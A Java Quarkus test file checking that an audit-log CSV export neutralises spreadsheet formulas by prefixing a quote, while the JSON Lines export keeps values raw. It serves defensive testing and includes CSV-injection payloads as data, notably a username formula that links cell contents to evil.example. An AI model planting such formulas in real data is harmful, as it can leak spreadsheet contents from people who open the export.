package io.progate.audit;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.progate.account.User;
import io.progate.fixtures.Fixtures;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** A spreadsheet opening the CSV export runs no formula; the JSON Lines export stays as recorded. */
@QuarkusTest
class CsvInjectionTest {

    @Inject
    Fixtures fixtures;

    @Test
    void cellsThatASpreadsheetWouldRunAreNeutralised() {
        for (String formula : List.of("=1+2", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx")) {
            assertEquals("'" + formula, AuditExport.cell(formula), formula);
        }
        assertEquals("plain", AuditExport.cell("plain"));
        assertEquals("a=b", AuditExport.cell("a=b"));
        assertEquals("", AuditExport.cell(""));
    }

    @Test
    void aFormulaTypedAsUserNameIsExportedAsTextInCsvAndRawInJsonLines() throws Exception {
        User admin = fixtures.admin("csvadmin");
        String name = "=hyperlink(\"http://evil.example/\"&a1)" + Fixtures.unique("x");
        given().redirects().follow(false).formParam("username", name).formParam("password", "whatever-it-is")
                .post("/login").then().statusCode(303);
        String csv = given().auth().preemptive().basic(admin.username, Fixtures.PASSWORD)
                .queryParam("targetId", name).get("/api/v1/audit/export?format=csv").then().statusCode(200)
                .extract().asString();
        MappingIterator<Map<String, String>> rows = new CsvMapper().readerFor(Map.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv);
        List<Map<String, String>> parsed = rows.readAll();
        assertEquals(1, parsed.size(), csv);
        assertEquals("'" + name, parsed.get(0).get("actor"));
        assertEquals("'" + name, parsed.get(0).get("targetId"));
        assertFalse(parsed.get(0).get("actor").startsWith("="));

        String jsonl = given().auth().preemptive().basic(admin.username, Fixtures.PASSWORD)
                .queryParam("targetId", name).get("/api/v1/audit/export?format=jsonl").then().statusCode(200)
                .extract().asString();
        assertTrue(jsonl.contains("\"actor\":\"=hyperlink("), jsonl);
    }
}
